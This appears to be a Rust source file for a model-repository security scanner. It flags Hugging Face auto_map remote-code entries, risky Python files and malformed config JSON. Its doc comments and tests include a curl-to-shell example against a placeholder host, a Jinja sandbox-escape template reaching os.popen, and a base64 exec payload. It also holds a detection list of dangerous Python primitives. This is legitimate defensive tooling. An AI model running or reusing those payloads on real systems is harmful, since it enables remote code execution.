//! ## MG501 `remote-code-auto-map`
//!
//! ### What it does
//! Reads the well-known JSON files of a Hugging Face model repository (`config.json`,
//! `tokenizer_config.json`, `processor_config.json`, `preprocessor_config.json`, …) and reports
//! every entry of `auto_map` (one finding per mapped class, e.g.
//! `AutoModelForCausalLM=modeling_x.Model`; references to another repository, `owner/repo--mod.Class`,
//! are called out) and every `custom_pipelines` implementation.
//!
//! ### Why is this bad?
//! With `trust_remote_code=True`, transformers downloads and imports the Python module named by
//! `auto_map` — arbitrary code, from this revision or from another repository entirely.
//!
//! ### Example
//! ```json
//! {"auto_map": {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}}
//! ```
//!
//! ### References
//! - CWE-829; Hugging Face transformers documentation, "Custom models" / `trust_remote_code`.
//!
//! The chat templates in `tokenizer_config.json`, `chat_template.json` and
//! `processor_config.json` (`chat_template` as a string, or a list of `{name, template}`) are
//! checked by the chat-template rules (MG403/MG404/MG411) at the template key's line and column.
//!
//! ## MG502 `python-source-file`
//!
//! ### What it does
//! Reports Python source shipped in the repository (medium), raised to high when a simple lexical
//! check finds process, code-execution, import or network primitives (`os.system`, `subprocess`,
//! `exec(`, `eval(`, `__import__`, `socket`, `pickle.loads`, base64-decoded payloads, …); the
//! first such line is reported.
//!
//! ### Why is this bad?
//! Repository Python files are what `auto_map` imports; they run with the user's privileges.
//!
//! ### Example
//! ```python
//! import os; os.system("curl https://example.invalid/x | sh")
//! ```
//!
//! ### References
//! - CWE-829; CWE-94.
//!
//! ## MG503 `repository-json-malformed`
//!
//! ### What it does
//! Reports a well-known repository JSON file that is not valid JSON (or exceeds the JSON size
//! limit).
//!
//! ### Why is this bad?
//! Loaders fail or fall back to defaults, and a file that cannot be parsed cannot be checked.
//!
//! ### Example
//! ```json
//! {"auto_map": {"AutoModel": "modeling.Model",
//! ```
//!
//! ### References
//! - CWE-20.

use modelgate_core::{Finding, RuleId, Severity};
use modelgate_formats::ByteSource;
use serde_json::Value;

use crate::Ctx;
use crate::rules::chat_template;

/// Repository JSON files whose `auto_map` transformers honours.
const AUTO_MAP_FILES: &[&str] = &[
    "config.json",
    "tokenizer_config.json",
    "processor_config.json",
    "preprocessor_config.json",
    "feature_extractor_config.json",
    "image_processor_config.json",
    "video_preprocessor_config.json",
];

/// Repository JSON files that may carry `chat_template`.
const TEMPLATE_FILES: &[&str] = &[
    "tokenizer_config.json",
    "chat_template.json",
    "processor_config.json",
];

/// Scans repository JSON (`config.json` `auto_map`, `tokenizer_config.json` `chat_template`).
pub fn scan_json(ctx: &mut Ctx<'_>, src: &dyn ByteSource) {
    let name = ctx.name().to_owned();
    let auto_map = AUTO_MAP_FILES.contains(&name.as_str());
    let templates = TEMPLATE_FILES.contains(&name.as_str());
    if !auto_map && !templates {
        return;
    }
    let max = ctx.limits.max_json_bytes;
    if src.len() > max {
        ctx.limit_exceeded(
            None,
            format!(
                "`{name}` is {} bytes, over the {max}-byte JSON limit",
                src.len()
            ),
        );
        return;
    }
    let bytes = match src.read_vec(0, src.len(), max) {
        Ok(b) => b,
        Err(e) => {
            ctx.report(Finding::of(
                RuleId::RepositoryJsonMalformed,
                ctx.location().clone(),
                format!("`{name}` cannot be read: {e}"),
            ));
            return;
        }
    };
    let text = String::from_utf8_lossy(&bytes);
    let value: Value = match serde_json::from_str(&text) {
        Ok(v) => v,
        Err(e) => {
            let location = ctx
                .location()
                .clone()
                .with_line_column(clamp(e.line()), clamp(e.column()));
            ctx.report(Finding::of(
                RuleId::RepositoryJsonMalformed,
                location,
                format!("`{name}` is not valid JSON: {e}; loaders may fail or fall back to defaults — fix or re-obtain the file"),
            ));
            return;
        }
    };
    let Value::Object(root) = &value else { return };
    if auto_map {
        if let Some(Value::Object(map)) = root.get("auto_map") {
            let (line, column) = key_position(&text, "auto_map");
            for (class, target) in map {
                report_auto_map(ctx, &name, class, target, line, column);
            }
        }
        if let Some(Value::Object(pipelines)) = root.get("custom_pipelines") {
            let (line, column) = key_position(&text, "custom_pipelines");
            for (task, spec) in pipelines {
                let implementation = spec.get("impl").and_then(Value::as_str).unwrap_or("?");
                let subject = format!("custom_pipelines.{task}={implementation}");
                let finding = Finding::of(
                    RuleId::RemoteCodeAutoMap,
                    ctx.location().clone().with_line_column(line, column),
                    format!("`{name}` registers pipeline `{task}` implemented by repository code `{implementation}`, imported with trust_remote_code=True; review that file and pin the revision"),
                )
                .with_subject(subject);
                ctx.report(finding);
            }
        }
    }
    if templates {
        let (line, column) = key_position(&text, "chat_template");
        let location = ctx.location().clone().with_line_column(line, column);
        match root.get("chat_template") {
            Some(Value::String(t)) => chat_template::check_at(ctx, t, &location, None),
            Some(Value::Array(items)) => {
                for item in items {
                    let template = item.get("template").and_then(Value::as_str);
                    let template_name = item.get("name").and_then(Value::as_str);
                    if let Some(t) = template {
                        chat_template::check_at(ctx, t, &location, template_name);
                    }
                }
            }
            Some(Value::Null) | None => {}
            Some(other) => {
                let kind = match other {
                    Value::Bool(_) => "a boolean",
                    Value::Number(_) => "a number",
                    _ => "an object",
                };
                ctx.report(Finding::of(
                    RuleId::RepositoryJsonMalformed,
                    location,
                    format!(
                        "`{name}`: chat_template is {kind}, not a string or a list of templates"
                    ),
                ));
            }
        }
    }
}

fn report_auto_map(
    ctx: &mut Ctx<'_>,
    file: &str,
    class: &str,
    target: &Value,
    line: u32,
    column: u32,
) {
    // Values are "module.Class", ["module.Slow", "module.Fast"] (tokenizers), or
    // "owner/repo--module.Class" (code from another repository).
    let targets: Vec<&str> = match target {
        Value::String(s) => vec![s.as_str()],
        Value::Array(items) => items.iter().filter_map(Value::as_str).collect(),
        _ => Vec::new(),
    };
    for t in targets {
        let other_repo = t.split_once("--").map(|(repo, _)| repo);
        let message = match other_repo {
            Some(repo) => format!(
                "`{file}` maps `{class}` to `{t}`: code from another repository (`{repo}`) imported with trust_remote_code=True; review it and pin both revisions, or do not enable remote code"
            ),
            None => format!(
                "`{file}` maps `{class}` to repository code `{t}`, imported with trust_remote_code=True; review that file and pin the revision"
            ),
        };
        let finding = Finding::of(
            RuleId::RemoteCodeAutoMap,
            ctx.location().clone().with_line_column(line, column),
            message,
        )
        .with_subject(format!("{class}={t}"))
        .with_evidence(t);
        ctx.report(finding);
    }
}

fn clamp(v: usize) -> u32 {
    u32::try_from(v).unwrap_or(u32::MAX)
}

/// 1-based line and column of the first `"key"` used as an object key in `text` (1:1 if absent).
fn key_position(text: &str, key: &str) -> (u32, u32) {
    let needle = format!("\"{key}\"");
    let mut from = 0;
    while let Some(pos) = text.get(from..).and_then(|t| t.find(&needle)) {
        let at = from + pos;
        let after = text.get(at + needle.len()..).unwrap_or("");
        if after.trim_start().starts_with(':') {
            let before = text.get(..at).unwrap_or("");
            let line = before.matches('\n').count() + 1;
            let column = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
            return (clamp(line), clamp(column));
        }
        from = at + needle.len();
    }
    (1, 1)
}

/// Dangerous primitives a lexical check looks for: (pattern, needs a word boundary before it).
const DANGEROUS_PYTHON: &[(&str, bool)] = &[
    ("os.system(", false),
    ("os.popen(", false),
    ("os.exec", false),
    ("os.spawn", false),
    ("subprocess", true),
    ("exec(", true),
    ("eval(", true),
    ("__import__", false),
    ("import socket", true),
    ("socket.socket(", false),
    ("pickle.loads(", false),
    ("marshal.loads(", false),
    ("ctypes", true),
    ("pty.spawn(", false),
    ("b64decode(", false),
    ("urllib.request", false),
    ("requests.get(", false),
    ("requests.post(", false),
];

/// Reports Python source shipped in a model repository.
pub fn scan_python(ctx: &mut Ctx<'_>, src: &dyn ByteSource) {
    let name = ctx.name().to_owned();
    let max = ctx.limits.max_json_bytes;
    let len = src.len().min(max);
    let bytes = src.read_vec(0, len, max).unwrap_or_default();
    let text = String::from_utf8_lossy(&bytes);
    let mut first: Option<(usize, usize, &str, &str)> = None;
    let mut count = 0usize;
    for (i, line) in text.lines().enumerate() {
        let code = line.split('#').next().unwrap_or("");
        for (pattern, boundary) in DANGEROUS_PYTHON {
            let mut from = 0;
            while let Some(pos) = code.get(from..).and_then(|c| c.find(pattern)) {
                let at = from + pos;
                from = at + pattern.len();
                let prev = code.get(..at).and_then(|b| b.chars().next_back());
                if *boundary && prev.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.') {
                    continue;
                }
                count += 1;
                if first.is_none() {
                    first = Some((
                        i + 1,
                        code.get(..at).map_or(0, |b| b.chars().count()) + 1,
                        pattern,
                        line.trim(),
                    ));
                }
                break;
            }
        }
    }
    let truncated = if src.len() > max {
        " (only the first part was read)"
    } else {
        ""
    };
    let finding = match first {
        Some((line, column, pattern, excerpt)) => {
            let more = if count > 1 {
                format!(" and {} more such use(s)", count - 1)
            } else {
                String::new()
            };
            Finding::new(
                RuleId::PythonSourceFile,
                Severity::High,
                ctx.location().clone().with_line_column(clamp(line), clamp(column)),
                format!(
                    "Python file `{name}` uses `{}` at line {line}{more}{truncated}; loaders may import it (trust_remote_code) — review it before enabling remote code",
                    pattern.trim_end_matches('(')
                ),
            )
            .with_subject(pattern.trim_end_matches('(').to_owned())
            .with_evidence(excerpt)
        }
        None => Finding::of(
            RuleId::PythonSourceFile,
            ctx.location().clone(),
            format!(
                "the repository ships Python source `{name}`{truncated}, which loaders may import (trust_remote_code); review it and pin the revision"
            ),
        ),
    };
    ctx.report(finding);
}

#[cfg(test)]
mod tests {
    use modelgate_core::Location;

    use super::*;
    use crate::context::run_rule;

    fn run(name: &str, body: &str, python: bool) -> Vec<Finding> {
        let bytes = body.as_bytes();
        run_rule(Location::file(format!("repo/{name}")), name, |ctx| {
            if python {
                scan_python(ctx, &bytes);
            } else {
                scan_json(ctx, &bytes);
            }
        })
    }

    #[test]
    fn auto_map_entries_are_high_with_subjects() {
        let cfg = r#"{
  "architectures": ["XForCausalLM"],
  "auto_map": {
    "AutoConfig": "configuration_x.XConfig",
    "AutoModelForCausalLM": "other/repo--modeling_x.XForCausalLM"
  }
}"#;
        let f = run("config.json", cfg, false);
        assert_eq!(f.len(), 2);
        assert!(
            f.iter()
                .all(|f| f.rule == RuleId::RemoteCodeAutoMap && f.severity == Severity::High)
        );
        assert_eq!(
            f[0].subject.as_deref(),
            Some("AutoConfig=configuration_x.XConfig")
        );
        assert!(f[1].message.contains("another repository (`other/repo`)"));
        assert_eq!(
            (f[0].location.line, f[0].location.column),
            (Some(3), Some(3))
        );
        let tok = r#"{"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", null]}}"#;
        assert_eq!(run("tokenizer_config.json", tok, false).len(), 1);
        let pipes =
            r#"{"custom_pipelines": {"my-task": {"impl": "pipeline_x.P", "pt": ["AutoModel"]}}}"#;
        assert_eq!(
            run("config.json", pipes, false)[0].subject.as_deref(),
            Some("custom_pipelines.my-task=pipeline_x.P")
        );
    }

    #[test]
    fn benign_configs_and_other_json_are_clean() {
        let template =
            include_str!("../../tests/fixtures/chat_templates/llama-3.1-8b-instruct-tools.jinja");
        let tok = serde_json::json!({"bos_token": "<|begin_of_text|>", "chat_template": template})
            .to_string();
        assert!(run("tokenizer_config.json", &tok, false).is_empty());
        assert!(
            run(
                "config.json",
                r#"{"model_type": "llama", "hidden_size": 4096}"#,
                false
            )
            .is_empty()
        );
        assert!(run("whatever.json", "{not json", false).is_empty());
    }

    #[test]
    fn malicious_templates_in_json() {
        let evil = "{{ cycler.__init__.__globals__.os.popen('echo harmless').read() }}";
        let tok = serde_json::json!({"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": evil}]}).to_string();
        let f = run("tokenizer_config.json", &tok, false);
        assert!(!f.is_empty());
        assert!(
            f.iter().any(|f| f.rule == RuleId::ChatTemplateUnsafe),
            "{f:#?}"
        );
        assert!(f.iter().all(|f| f.message.contains("`tool_use`")), "{f:#?}");
        assert_eq!(f[0].location.line, Some(1));
        let single = serde_json::json!({"chat_template": evil}).to_string();
        assert!(
            run("chat_template.json", &single, false)
                .iter()
                .any(|f| f.severity == Severity::Critical)
        );
    }

    #[test]
    fn malformed_well_known_json() {
        let f = run("config.json", "{\n  \"auto_map\": {", false);
        assert_eq!(f[0].rule, RuleId::RepositoryJsonMalformed);
        assert_eq!(f[0].location.line, Some(2));
        let f = run("tokenizer_config.json", r#"{"chat_template": 5}"#, false);
        assert_eq!(f[0].rule, RuleId::RepositoryJsonMalformed);
    }

    #[test]
    fn python_files() {
        let f = run(
            "modeling_x.py",
            "import torch\n\nclass M(torch.nn.Module):\n    def f(self):\n        self.eval()\n        return torch.compile(self)\n",
            true,
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::Medium);
        let f = run(
            "modeling_x.py",
            "import torch\n# os.system('x') in a comment\nimport os\nos.system('echo harmless')\nexec(code)\n",
            true,
        );
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(f[0].location.line, Some(4));
        assert_eq!(f[0].subject.as_deref(), Some("os.system"));
        assert!(f[0].message.contains("1 more"));
        let f = run(
            "x.py",
            "import base64\nexec(base64.b64decode(PAYLOAD))\n",
            true,
        );
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(f[0].location.line, Some(2));
    }
}
